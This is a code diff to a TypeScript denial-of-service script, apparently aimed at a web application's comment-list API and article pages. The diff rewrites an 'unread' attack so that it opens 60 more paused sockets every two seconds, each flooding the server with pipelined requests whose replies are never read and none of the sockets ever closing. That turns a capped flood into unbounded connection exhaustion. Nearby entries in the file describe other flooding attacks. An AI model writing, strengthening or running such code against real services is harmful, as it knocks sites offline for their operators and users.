@@ -78,23 +78,21 @@ const attacks: Record<string, (target: Target) => Promise<unknown>> = {
     return repeat(20, () => ask('POST', '/api/comment/getpagecommentlist', body));
   },
 
-  /** Answers that nobody reads: each connection asks for many at once and never takes one. */
+  /** Answers that nobody reads: each connection asks for many at once and never takes one; ever more connections are opened. */
   unread: async (target) => {
     const { hostname, port } = new URL(target.url);
     const body = form({ page_id: target.commented });
     const post = `POST /api/comment/getpagecommentlist HTTP/1.1\r\nHost: a\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: ${body.length}\r\n\r\n${body}`;
     const page = `GET /detail/${target.commented} HTTP/1.1\r\nHost: a\r\n\r\n`;
-    const one = async (): Promise<never> => {
-      for (;;) {
+    for (;;) {
+      for (let opened = 0; opened < 60; opened++) {
         const socket = connect({ host: hostname, port: Number(port) }).pause();
-        socket.on('error', () => {});
+        socket.on('error', () => count('ended'));
         socket.write((post + page).repeat(100));
-        await once(socket, 'close').catch(() => {});
-        count('closed');
-        await delay(100);
       }
-    };
-    await Promise.all(Array.from({ length: 60 }, one));
+      count('60 connections');
+      await delay(2_000);
+    }
   },
 
   /** Articles that take long to render, each another one. */
